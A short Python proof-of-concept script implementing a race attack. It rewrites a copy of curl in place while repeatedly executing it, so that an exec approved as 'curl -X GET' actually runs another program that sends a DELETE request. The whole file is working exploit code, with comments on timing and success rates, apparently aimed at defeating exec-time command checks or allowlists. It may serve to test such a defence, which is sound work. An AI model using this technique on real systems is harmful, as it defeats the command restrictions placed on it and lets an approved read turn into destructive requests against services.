"""Writes a copy of curl in place (same inode, no O_TRUNC), alternately with curl's bytes and another
program's, while running that copy as `x -s -X GET URL` again and again: an exec decided on curl's
bytes whose file holds the other program when the kernel opens it. The other program sends a
DELETE. Usage: rewrite-race.py CURL OTHER URL RUNS: RUNS execs that ran (an exec that meets the
writer's open file fails with ETXTBSY and is tried again). Prints how many ran."""
import os, signal, subprocess, sys, time

curl_path, other_path, url, tries = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
curl, other = open(curl_path, "rb").read(), open(other_path, "rb").read()
x = os.path.abspath("x")
with open(x, "wb") as f:
    f.write(curl)
os.chmod(x, 0o755)

def writer():
    n = 0
    while True:
        try:
            fd = os.open(x, os.O_WRONLY)  # no O_TRUNC: the same inode, only its bytes change
        except OSError:
            continue  # ETXTBSY: an exec holds it now
        try:
            os.pwrite(fd, other if n % 2 == 0 else curl[: len(other)], 0)
        finally:
            os.close(fd)
        n += 1
        time.sleep(0.0003)  # each version stays a while: the file is not held open all the time

# A process of its own, not a thread: the interpreter's lock would otherwise decide when it writes.
child = os.fork()
if child == 0:
    writer()
ran = attempts = 0
# Most tries meet the other program or a rewrite before the commit (killed, or an unknown client): on a
# slow host (decision and commit wider than the writer's pause) one in fifty ran curl whole. The cap only
# bounds a run that never gets there; the attack itself is unchanged.
while ran < tries and attempts < 200 * tries:
    attempts += 1
    try:
        r = subprocess.run([x, "-s", "-o", "/dev/null", "-X", "GET", url], capture_output=True, timeout=10)
        if r.returncode == 0:
            ran += 1
    except OSError:
        pass  # ETXTBSY
os.kill(child, signal.SIGKILL)
os.waitpid(child, 0)
print(f"ran {ran}")
